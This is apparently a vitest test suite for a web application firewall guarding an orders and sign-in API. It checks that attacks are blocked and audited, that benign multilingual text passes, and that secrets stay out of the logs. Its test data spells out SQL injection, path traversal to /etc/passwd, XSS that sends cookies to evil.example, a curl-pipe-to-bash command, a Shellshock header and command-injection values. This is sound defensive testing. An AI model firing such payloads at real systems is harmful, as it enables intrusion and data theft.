import { apiHeaders } from '@palisade/contracts'
import { describe, expect, it } from 'vitest'
import { startEdge } from '../../test/native/index.ts'
import { auditOf, logOf, missingEdge, type Sent, send, useEdge } from './test-client.ts'

const skipped = missingEdge()
const partner = 'https://app.test.palisade.example'

const order = (note: string, customerName = 'Ada Lovelace', description = 'A lamp') => ({
  customerName,
  customerEmail: 'ada@example.org',
  currency: 'EUR',
  note,
  lines: [{ sku: 'LAMP-1', description, quantity: 2, unitPriceMinor: 1999 }],
})

const attacks: [string, string, Sent][] = [
  ['SQL in a query', `/api/orders/search?q=${encodeURIComponent("x' UNION SELECT password_hash FROM users--")}`, {}],
  ['SQL in a tautology', `/api/orders/search?q=${encodeURIComponent("' or '1'='1")}`, {}],
  ['a path to the system’s files in a query', '/api/orders/search?q=../../../../etc/passwd', {}],
  ['the same, encoded twice', '/api/orders?cursor=%252e%252e%252f%252e%252e%252fetc%252fpasswd', {}],
  ['a script in a query', `/api/orders/search?q=${encodeURIComponent('<script>alert(1)</script>')}`, {}],
  ['a command in a query', `/api/orders/search?q=${encodeURIComponent('; cat /etc/passwd')}`, {}],
  ['a script in a note', '/api/orders', { json: order('<script>fetch("//evil.example/"+document.cookie)</script>') }],
  ['a script in an attribute', '/api/orders', { json: order('<img src=x onerror=alert(1)>') }],
  ['SQL in a note', '/api/orders', { json: order("1'; DROP TABLE orders; SELECT pg_sleep(10)--") }],
  ['a command in a note', '/api/orders', { json: order('`curl https://evil.example/x.sh | bash`') }],
  ['SQL in the name of a customer', '/api/orders', { json: order('', "Ada' OR 1=1 UNION SELECT 1,2,3 --") }],
  ['a script deep in a line', '/api/orders', { json: order('', 'Ada', '"><script>alert(1)</script>') }],
  [
    'an attack in escapes of JSON',
    '/api/orders',
    {
      body: JSON.stringify(order('#')).replace('#', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'),
      headers: { 'content-type': 'application/json' },
    },
  ],
  [
    'a prototype in a field’s name',
    '/api/orders',
    { json: { ['__proto__']: 1, 'constructor.prototype.x': '<script>alert(1)</script>' } },
  ],
  ['a scanner', '/api/orders', { headers: { 'user-agent': 'sqlmap/1.7' } }],
  [
    'an attack in a header that goes on',
    '/api/orders',
    { headers: { 'user-agent': "() { :; }; /bin/bash -c 'cat /etc/passwd'" } },
  ],
  ['a list of passwords', '/api/auth/sign-in', { json: { email: 'a@b.example', password: ['a', 'b', 'c'] } }],
  ['SQL beside a password', '/api/auth/sign-in', { json: { email: "a' OR 1=1--", password: 'x' } }],
]

const benign: [string, Sent['json']][] = [
  ['an apostrophe', order("It's for O'Brien & Sons; don't ring", "Siobhán O'Connor")],
  ['SQL’s words in prose', order('Please select the blue ones from the list, and drop the table at the door; thanks!')],
  ['a union of workers', order('The union will select a delegate from among the users or the members where needed')],
  ['German', order('Lieferung bitte nur vormittags (Mo–Fr), Klingel „Müller/Groß“; Rückfragen: +49 30 1234567')],
  [
    'French',
    order("Livrer à l'adresse « L'Étoile », 2e étage – s'il n'y a personne, chez le voisin ; merci d'avance !"),
  ],
  ['Italian', order("Dall'altra parte dell'edificio; l'ingresso è in via Sant'Agata n. 12/B")],
  ['Polish', order('Proszę zadzwonić 10 minut wcześniej; ul. Świętokrzyska 31/33A, m. 5')],
  ['Greek', order('Παράδοση μετά τις 5 το απόγευμα, κουδούνι «Παπαδόπουλος»')],
  ['Japanese', order('午前中に配達してください。不在の場合は宅配ボックスへ。', '山田 太郎')],
  ['Arabic', order('يرجى التسليم في الصباح، الطابق الثاني')],
  ['Hindi', order('कृपया सुबह 10 बजे से पहले डिलीवर करें')],
  ['Ukrainian', order("Під'їзд 3, домофон 45; об'єкт на розі вулиць")],
  ['emoji', order('Happy birthday 🎂 — love, Mum & Dad <3')],
  ['an address', order('c/o Smith, Apt. #5, 12-14 King’s Rd. (rear entrance), London SW1A 1AA; code *1234#')],
  ['prices and arithmetic', order('2 x 19.99 = 39.98 EUR; minus 10% => 35.98, or 3 for 50?')],
  ['a link', order('As in the catalogue: https://shop.example.com/lamps?colour=blue&size=2')],
  ['several lines', order('First line\n- one\n- two\n\tindented\n"quoted" and \'quoted\'')],
  ['a company’s name', order('', 'AT&T Inc. / O2 (UK) — "Best & Co." GmbH & Co. KG')],
  ['an odd product', order('', 'Ada', 'Cable 3/4" x 10\' (black), 5V/2A; USB-C <-> USB-A')],
  ['a question', order('Can you order by phone? If not, exec assistant will call; see note.')],
]

describe.skipIf(skipped)(`the WAF of one VPS${skipped ? ` (${skipped})` : ''}`, () => {
  const running = useEdge()

  it.each(attacks)('[S53] [S58] [S59] blocks %s, readably, and says why in the audit log', async (_, path, sent) => {
    const before = running.echo.seen.length
    const answer = await send(running.edge, path, { ...sent, headers: { ...sent.headers, origin: partner } })
    const requestId = answer.headers['x-request-id']
    expect(answer.json()).toMatchObject({ status: 403, code: 'blocked', requestId })
    expect(answer.status).toBe(403)
    expect(answer.headers).toMatchObject({
      ...apiHeaders,
      'content-type': 'application/problem+json',
      'access-control-allow-origin': partner,
      vary: 'Origin',
    })
    expect(running.echo.seen.length).toBe(before)

    const audited = await auditOf(running.edge, requestId)
    expect(audited).toHaveLength(1)
    expect(audited[0]?.transaction).toMatchObject({ client_ip: '127.0.0.1', request: { uri: path } })
    expect(audited[0]?.transaction.messages.length).toBeGreaterThan(0)
    expect(await logOf(running.edge, requestId)).toMatchObject({ status: 403 })
  })

  it.each(benign)('[S78] lets pass %s', async (_, json) => {
    const answer = await send(running.edge, '/api/orders', { json })
    const audited = answer.status === 200 ? [] : await auditOf(running.edge, answer.headers['x-request-id'])
    expect(audited.flatMap(({ transaction }) => transaction.messages.map(({ details }) => details))).toEqual([])
    expect(answer.status).toBe(200)
    expect(JSON.parse(String(answer.json()['body']))).toEqual(json)
  })

  it('[S55] refuses JSON that it cannot parse', async () => {
    for (const body of ['{"note":', '{"a":1}}', '\ufeff{}', '{"a":"\xff"}', `${'['.repeat(40)}${']'.repeat(40)}`]) {
      const before = running.echo.seen.length
      const answer = await send(running.edge, '/api/orders', {
        body: Buffer.from(body, 'latin1'),
        headers: { 'content-type': 'application/json' },
      })
      expect(answer.json(), body).toMatchObject({ status: 400, code: 'malformed-request' })
      expect(running.echo.seen.length).toBe(before)
    }
  })

  it('takes no body where one may be left out', async () => {
    for (const headers of [{}, { 'content-type': 'application/json' }]) {
      expect((await send(running.edge, '/api/auth/refresh', { method: 'POST', headers })).status).toBe(200)
      expect((await send(running.edge, '/api/auth/refresh', { method: 'DELETE', headers })).status).toBe(200)
    }
  })

  it('a password may look like an attack, and no log holds it, nor a token', async () => {
    const password = `' OR 1=1; <script>alert("hunter2")</script>`
    const token = 'eyJhbGciOiJFZERTQSJ9.c2VjcmV0LXRva2Vu.c2lnbmF0dXJl'
    const headers = { authorization: `Bearer ${token}`, cookie: `refresh_token=${token}` }
    const json = { email: 'ada@example.org', password }
    expect((await send(running.edge, '/api/auth/sign-in', { headers, json })).status).toBe(200)
    const blocked = { ...json, email: '<script>alert(1)</script>' }
    const answer = await send(running.edge, '/api/auth/sign-in', { headers, json: blocked })
    expect(answer.status).toBe(403)
    await auditOf(running.edge, answer.headers['x-request-id'])
    await logOf(running.edge, answer.headers['x-request-id'])
    const logs = JSON.stringify([
      await running.edge.accessLog(),
      await running.edge.auditLog(),
      await running.edge.errorLog(),
    ])
    expect(logs).not.toContain('hunter2')
    expect(logs).not.toContain('c2VjcmV0')
  })

  it.each([
    ['auth/refresh', { refreshToken: 'hunter2<script>alert(1)</script>' }],
    ['auth/refresh', { refreshToken: `${'A'.repeat(43)}\nhunter2` }],
    ['auth/sign-in', { email: 'ada@example.org', password: 'a', deviceToken: "hunter2' OR 1=1--" }],
    ['auth/second-factor', { challenge: 'hunter2.`id`.x', code: '123456' }],
    ['auth/second-factor', { challenge: 'a.b.c', code: 'hunter2;id' }],
    ['auth/step-up', { code: '$(hunter2)' }],
  ])('[S58] a token or code out of its form is refused, and no log holds it: %s %j', async (path, json) => {
    const before = running.echo.seen.length
    const answer = await send(running.edge, `/api/${path}`, { json })
    expect(answer.json()).toMatchObject({ status: 400, code: 'validation-failed' })
    expect(running.echo.seen.length).toBe(before)
    const audited = await auditOf(running.edge, answer.headers['x-request-id'])
    expect(audited.flatMap(({ transaction }) => transaction.messages.map(({ message }) => message))).toContain(
      'A token or code in a form that none has',
    )
    const logs = JSON.stringify([
      await running.edge.accessLog(),
      await running.edge.auditLog(),
      await running.edge.errorLog(),
    ])
    expect(logs).not.toContain('hunter2')
  })

  it.each<[string, Sent]>([
    ['unproven', {}],
    ['proven', { json: order('Please ring'), headers: { 'user-agent': 'node' } }],
  ])('says that the API is away, as a problem, to a request that is %s', async (_, sent) => {
    const alone = await startEdge({ upstreamPort: 1 })
    try {
      const answer = await send(alone, '/api/orders', { ...sent, headers: { ...sent.headers, origin: alone.url } })
      expect(answer.json()).toMatchObject({ code: 'unavailable', requestId: answer.headers['x-request-id'] })
      expect(answer.status).toBe(503)
      expect(answer.headers).toMatchObject({ ...apiHeaders, 'access-control-allow-origin': alone.url })
    } finally {
      await alone.stop()
    }
  })
})
